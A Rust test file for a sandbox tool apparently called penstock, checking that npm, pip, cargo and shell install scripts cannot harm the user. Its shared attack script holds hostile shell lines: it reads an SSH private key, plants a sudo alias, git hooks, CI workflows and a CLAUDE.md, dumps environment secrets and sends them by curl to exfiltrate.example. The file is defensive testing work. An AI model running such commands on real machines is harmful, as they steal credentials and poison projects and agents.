//! Install scripts that do what malicious ones do. Each attempt is harmless if it succeeds.

use std::{fs, process};

use crate::harness::{Place, Ran, alive, installed};

/// What every attacker runs, whatever package manager starts it.
const ATTACK: &str = r#"
cat "$VICTIM/.ssh/id_ed25519" > stolen 2>/dev/null
echo 'alias sudo=evil' >> "$VICTIM/.bashrc"
echo 'alias sudo=evil' >> ~/.bashrc
mkdir -p .github/workflows; echo 'on: push' > .github/workflows/x.yml; echo 'on: push' > .github/x.yml
echo 'evil' > .git/hooks/pre-commit; echo '[core] fsmonitor = evil' >> .git/config
mv .git gone; mkdir -p .vscode; echo '{}' > .vscode/tasks.json; echo evil > CLAUDE.md
env > environment
curl -sS -m 5 https://exfiltrate.example/ -d @environment
setsid sh -c 'sleep 3600' "$MARK" >/dev/null 2>&1 &
echo done > attacked
exit 0
"#;

/// A project with a repository, a workflow and an attacker in it, and a person with a key.
fn victim(mut place: Place, mark: &str) -> Place {
    fs::create_dir_all(place.home.join(".ssh")).unwrap();
    fs::write(place.home.join(".ssh/id_ed25519"), "PRIVATE-KEY-OF-ANA").unwrap();
    fs::write(place.home.join(".bashrc"), "mine\n").unwrap();
    place.write(".git/HEAD", "ref: refs/heads/main\n");
    place.write(".git/config", "kept\n");
    fs::create_dir_all(place.project.join(".git/hooks")).unwrap();
    let script = ATTACK.replace("$VICTIM", place.home.to_str().unwrap()).replace("$MARK", mark);
    place.write("attack.sh", &script);
    place.set("GITHUB_TOKEN", "ghs_token_of_the_job");
    place.set("ACTIONS_ID_TOKEN_REQUEST_TOKEN", "ghs_token_of_the_job");
    place.set("AWS_SECRET_ACCESS_KEY", "ghs_token_of_the_job");
    place
}

/// Every attempt failed, and what the sandbox sees of them is on the page. The files the attack wrote
/// lie beneath `at`.
fn failed(place: &Place, at: &str, ran: Ran, mark: &str) {
    assert_eq!(place.read(&format!("{at}attacked")), "done\n", "it never ran\n{}", ran.err);
    assert_eq!(place.read(&format!("{at}stolen")), "");
    let environment = place.read(&format!("{at}environment"));
    assert!(environment.contains("HOME="), "{environment}");
    assert!(!environment.contains("ghs_token_of_the_job"), "{environment}");
    assert_eq!(fs::read_to_string(place.home.join(".bashrc")).unwrap(), "mine\n");
    assert_eq!(place.read(".git/config"), "kept\n");
    for made in [".git/hooks/pre-commit", ".github", ".vscode", "CLAUDE.md", "gone"] {
        assert!(!place.project.join(made).exists(), "{made}");
    }
    assert!(!alive(mark), "a process outlived the command");
    let ran = ran.says("credentials at").says(".ssh/id_ed25519");
    if installed("curl") {
        _ = ran
            .says("exfiltrate.example:443 1×: not allowed")
            .says("needed? penstock allow exfiltrate.example");
    }
}

#[test]
fn of_a_script() {
    let mark = format!("penstock-mark-sh-{}", process::id());
    let place = victim(Place::new(), &mark);
    let ran = place.run(&[], &["sh", "attack.sh"]).exits(0);
    failed(&place, "", ran, &mark);
}

#[test]
fn of_an_npm_package() {
    if !installed("npm") {
        return;
    }
    let mark = format!("penstock-mark-npm-{}", process::id());
    let place = victim(Place::new(), &mark);
    let manifest = r#"{"name":"x","version":"1.0.0","scripts":{"postinstall":"sh attack.sh"}}"#;
    place.write("package.json", manifest);
    let options = ["npm", "install", "--no-audit", "--no-fund", "--foreground-scripts"];
    let ran = place.run(&[], &options).exits(0).says("preset npm");
    failed(&place, "", ran, &mark);
}

#[test]
fn of_a_python_package() {
    if !installed("python3") {
        return;
    }
    let mark = format!("penstock-mark-pip-{}", process::id());
    let place = victim(Place::with_toolchains(), &mark);
    place.write(
        "setup.py",
        "import os, setuptools\nos.system('sh attack.sh')\nsetuptools.setup(name='x', version='1', packages=[])\n",
    );
    let ran = place.run(&[], &["python3", "setup.py", "-q", "egg_info"]);
    if ran.err.contains("No module named 'setuptools'") {
        println!("SKIPPED: this python3 has no setuptools");
        return;
    }
    failed(&place, "", ran.exits(0), &mark);
}

#[test]
fn of_a_cargo_build_script() {
    if !installed("cargo") {
        return;
    }
    let mark = format!("penstock-mark-cargo-{}", process::id());
    let place = victim(Place::with_toolchains(), &mark);
    place.write("Cargo.toml", "[package]\nname = \"x\"\nversion = \"0.1.0\"\nedition = \"2021\"\n");
    place.write("src/lib.rs", "");
    place.write(
        "build.rs",
        "fn main() { std::process::Command::new(\"sh\").arg(\"attack.sh\").status().unwrap(); }",
    );
    let ran = place.run(&[], &["cargo", "build", "--offline"]);
    if ran.status != 0 && !place.project.join("attacked").exists() {
        println!("SKIPPED: cargo builds nothing here: {}", ran.err);
        return;
    }
    failed(&place, "", ran.exits(0).says("preset cargo"), &mark);
}

/// What is written into the private home stays there for the next command of the same preset, and
/// for no other.
#[test]
fn a_poisoned_home_is_no_other_presets_and_never_the_persons() {
    let place = Place::new();
    place.script(&["--preset", "npm"], "echo poison > ~/.npmrc").exits(0);
    let left = |preset| place.script(&["-q", "--preset", preset], "cat ~/.npmrc 2>&1; true").out;
    assert_eq!(left("npm"), "poison\n");
    assert!(!left("pip").contains("poison"));
    assert!(!place.home.join(".npmrc").exists());
    let homes = place.home.join("cache/penstock/homes");
    let mode = std::os::unix::fs::PermissionsExt::mode(&fs::metadata(homes).unwrap().permissions());
    assert_eq!(mode & 0o777, 0o700);
}
